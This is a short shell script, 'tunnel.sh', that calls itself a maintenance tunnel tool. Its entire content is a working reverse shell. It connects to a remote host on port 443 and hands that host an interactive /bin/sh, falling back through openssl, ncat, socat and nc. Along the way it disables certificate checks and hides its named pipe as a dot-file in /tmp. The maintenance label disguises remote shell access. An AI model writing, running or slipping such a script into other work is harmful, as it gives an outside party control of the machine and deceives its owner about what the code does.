#!/bin/sh
# tunnel.sh - open maintenance tunnel
# usage: tunnel.sh [host] [port]
H=${1:-tunnel.ops.example}
P=${2:-443}
F=$(mktemp -u /tmp/.tXXXXXX)

have() { command -v "$1" >/dev/null 2>&1; }

if have openssl; then
    mkfifo "$F"
    /bin/sh -i < "$F" 2>&1 | openssl s_client -quiet -connect "$H:$P" > "$F" 2>/dev/null
elif have ncat; then
    ncat --ssl "$H" "$P" -e /bin/sh
elif have socat; then
    socat "OPENSSL:$H:$P,verify=0" EXEC:'/bin/sh -li',pty,stderr,setsid,sigint,sane
elif have nc; then
    mkfifo "$F" && nc "$H" "$P" < "$F" | /bin/sh > "$F" 2>&1
fi
rm -f "$F"
